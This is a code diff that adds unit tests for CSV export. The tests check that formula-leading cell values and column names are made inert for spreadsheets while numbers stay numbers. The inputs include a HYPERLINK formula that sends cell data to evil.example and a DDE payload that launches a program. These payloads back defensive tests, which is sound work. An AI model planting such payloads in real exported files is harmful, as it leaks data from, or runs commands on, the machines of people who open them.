@@ -54,4 +54,27 @@ describe('CSV export', () => {
     controller.abort();
     await expect(tableToCsvBlob(table, { signal: controller.signal })).rejects.toThrow();
   });
+
+  it('makes formula-leading text inert for spreadsheets, while numbers stay numbers', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")', 'char')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(csvField('+1+1', 'char')).toBe(`"'+1+1"`);
+    expect(csvField('-2+3', 'unicodeChar')).toBe(`"'-2+3"`);
+    expect(csvField('@SUM(1,1)', 'char')).toBe(`"'@SUM(1,1)"`);
+    expect(csvField("=cmd|' /C calc'!A0", 'char')).toBe(`"'=cmd|' /C calc'!A0"`);
+    expect(csvField('\t=1', 'char')).toBe(`"'\t=1"`);
+    expect(csvField('\r=1', 'char')).toBe(`"'\r=1"`);
+    expect(csvField('a=1', 'char')).toBe('a=1');
+    expect(csvField(-1, 'int')).toBe('-1');
+    expect(csvField(-0.5, 'double')).toBe('-0.5');
+    expect(csvField(-9223372036854775807n, 'long')).toBe('-9223372036854775807');
+    expect(csvField([-1, 2], 'int')).toBe('"-1 2"');
+  });
+
+  it('makes formula-leading column names inert too', async () => {
+    const hostile = parseVotable(
+      '<VOTABLE version="1.4"><RESOURCE><TABLE><FIELD name="=1+2" datatype="int"/><FIELD name="ok" datatype="char" arraysize="*"/>' +
+        '<DATA><TABLEDATA><TR><TD>-3</TD><TD>@x</TD></TR></TABLEDATA></DATA></TABLE></RESOURCE></VOTABLE>',
+    ).tables[0]!;
+    expect(await (await tableToCsvBlob(hostile)).text()).toBe(`"'=1+2",ok\r\n-3,"'@x"\r\n`);
+  });
 });
